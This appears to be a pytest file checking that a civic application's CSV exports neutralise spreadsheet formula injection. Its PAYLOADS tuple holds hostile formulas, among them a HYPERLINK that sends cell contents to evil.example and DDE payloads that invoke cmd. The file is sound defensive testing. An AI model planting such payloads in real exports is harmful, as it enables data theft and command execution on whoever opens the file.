"""Exports cannot run code: every CSV Beffroi writes neutralises formula cells.

The payloads are the issue's (a citizen's text or name that a spreadsheet would run as a
formula), one per dangerous first character (OWASP CSV injection guidance).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from beffroi.cli.main import main
from beffroi.collectors import Author
from beffroi.export import FORMULA_STARTS, csv_text, frame_csv, neutralise
from beffroi.store import connect
from beffroi.store.community import create_event

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&B2,"… ?")',
    "=cmd|' /C calc'!A0 pourquoi ?",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '\r=HYPERLINK("http://evil.example")',
)


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
        for cell in row
        if cell.startswith(FORMULA_STARTS)
    ]


def test_neutralise_prefixes_only_text_that_a_spreadsheet_would_run():
    assert [neutralise(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralise("Bonjour = salut") == "Bonjour = salut"
    assert neutralise(-12) == -12 and neutralise(3.5) == 3.5 and neutralise(None) is None
    assert neutralise("'=déjà") == "'=déjà"
    text = csv_text(["a", "b"], [[p, p] for p in PAYLOADS])
    assert formula_cells(text) == []
    # The quote is the only change: the reader gets the citizen's text back after it.
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0][1:] for r in rows] == list(PAYLOADS)


@pytest.fixture
def city(tmp_path):
    cfg = tmp_path / "b.toml"
    cfg.write_text('[city]\nname = "Ville"\n[database]\npath = "b.db"\n')
    conn = connect(tmp_path / "b.db")
    for n, payload in enumerate(PAYLOADS):
        create_event(
            conn,
            name=payload,
            kind="instameet",
            starts_at=datetime(2026, 10, 5 + n, 18, tzinfo=UTC),
            now=datetime(2026, 10, 1, tzinfo=UTC),
        )
    conn.close()
    return cfg


def test_report_csv_has_no_formula_cell(city, tmp_path, capsys):
    out = tmp_path / "rapport.csv"
    args = ["-c", str(city), "report", "--period", "month", "--format", "csv"]
    code = main([*args, "--out", str(out), "--date", "2026-10-15"])
    assert code == 0, capsys.readouterr().err
    text = out.read_bytes().decode("utf-8")  # not read_text: it would turn \r into \n
    names = [row[1] for row in csv.reader(io.StringIO(text, newline="")) if row[0] == "rencontres"]
    # (the event form strips the names, so "\t=1+1" is stored as "=1+1")
    assert len(names) == len(PAYLOADS) and all(n.startswith("'") for n in names), names
    found = formula_cells(text)
    print(f"report CSV: {len(found)} formula cells of {len(PAYLOADS)} payloads")
    assert found == []


def test_inbox_grid_download_is_neutralised_author_column_included(db, example_settings):
    from streamlit import config as st_config

    from tests.inbox.helpers import app, ingest, later, message

    ingest(
        db,
        example_settings,
        *[
            message(
                f"m{n}",
                f"{payload} quand passe le bus ?",
                author=Author("x", f"u{n}", f"hostile{n}", payload),
            )
            for n, payload in enumerate(PAYLOADS)
        ],
    )
    at = app(db, example_settings, later(5))
    assert not at.exception
    frame = at.dataframe[0].value
    assert len(frame) == len(PAYLOADS)
    # What Streamlit's own "Download as CSV" would write: the cells as they are.
    unsafe = formula_cells(frame.to_csv(index=False))
    safe = formula_cells(frame_csv(frame).decode("utf-8"))
    print(
        f"inbox grid: {len(unsafe)} formula cells as Streamlit writes them, {len(safe)} in Beffroi's"
    )
    assert len(unsafe) >= 2 * len(PAYLOADS) and safe == []
    assert "Télécharger ces messages (CSV)" in [el.proto.label for el in at.get("download_button")]
    # Streamlit's own grid export is switched off by the page.
    assert st_config.get_option("client.disableDataExport") is True
